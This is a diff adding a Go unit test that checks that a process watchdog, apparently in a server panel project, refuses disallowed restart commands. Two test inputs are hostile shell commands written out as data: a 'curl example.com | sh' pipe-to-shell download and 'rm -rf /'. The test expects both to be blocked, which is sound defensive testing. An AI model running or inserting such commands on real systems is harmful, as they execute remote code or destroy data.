@@ -0,0 +1,34 @@
+package store
+
+import (
+	"errors"
+	"testing"
+
+	"github.com/gopanel/gopanel/internal/config"
+)
+
+func TestWatchdogPutRestartCommand(t *testing.T) {
+	cfg := config.Default()
+	cfg.Watchdog.Watches = []config.ProcessWatch{{Name: "frpc", Match: "^frpc$", RestartCommand: "/opt/frp/start.sh"}}
+	wd := NewWatchdog(NewMemory(10), cfg)
+
+	for _, tc := range []struct {
+		watch config.ProcessWatch
+		err   error
+	}{
+		{config.ProcessWatch{Name: "nginx", Match: "nginx"}, nil},
+		{config.ProcessWatch{Name: "evil", Match: "x", RestartCommand: "curl example.com | sh"}, ErrCommandNotAllowed},
+		{config.ProcessWatch{Name: "frpc", Match: "frpc", RestartCommand: "/opt/frp/start.sh"}, nil},
+		{config.ProcessWatch{Name: "frpc", Match: "frpc", RestartCommand: "rm -rf /"}, ErrCommandNotAllowed},
+		{config.ProcessWatch{Name: "frpc", Match: "frpc"}, nil},
+	} {
+		if err := wd.Put(tc.watch); !errors.Is(err, tc.err) {
+			t.Errorf("%s %q: err = %v, want %v", tc.watch.Name, tc.watch.RestartCommand, err, tc.err)
+		}
+	}
+
+	cfg.Watchdog.AllowAPICommands = true
+	if err := wd.Put(config.ProcessWatch{Name: "evil", Match: "x", RestartCommand: "true"}); err != nil {
+		t.Errorf("with allow_api_commands: %v", err)
+	}
+}